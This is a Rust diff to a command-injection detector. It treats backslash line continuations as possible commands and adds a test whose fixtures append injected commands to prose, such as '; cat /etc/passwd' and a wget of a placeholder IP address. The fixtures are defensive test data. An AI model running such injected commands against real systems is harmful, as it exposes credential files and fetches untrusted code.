@@ -34,6 +34,10 @@ pub(super) fn detect(value: &[u8], kind: FieldKind) -> Option<Match<'static>> {
 /// Whether the value has lines, and so much prose that only a command after a separator is evidence:
 /// its lines say as much as the whole.
 pub(super) fn is_text_of_lines(value: &[u8]) -> bool {
+    // A backslash continues the line.
+    if memchr::memmem::find(value, b"\\\n").is_some() {
+        return false;
+    }
     let lines = value.split(|&byte| byte == b'\n').filter(|line| !line.is_empty());
     let unknown = lines.clone().filter(|line| cannot_contain_command(line));
     let words = unknown.flat_map(|line| line.split(u8::is_ascii_whitespace)).filter(|word| is_prose(word));
@@ -136,6 +140,18 @@ mod tests {
             "$(id)",
         ] {
             assert!(finds(line), "{line}");
+        }
+    }
+
+    #[test]
+    fn finds_commands_that_continue_over_lines_of_a_text() {
+        const TEXT: &str =
+            "The children swam, the dog slept, and the old boat stayed.\nIn the evening there was soup";
+        for command in ["; cat /etc/passwd", ";\ncat /etc/passwd", "; wget \\\nhttp://198.51.100.1/x"] {
+            let text = format!("{TEXT}{command}");
+            let found =
+                super::super::detect(text.as_bytes(), Bytes::of(text.as_bytes()), FieldKind::Value, false);
+            assert!(!found.is_empty(), "{text}");
         }
     }
 
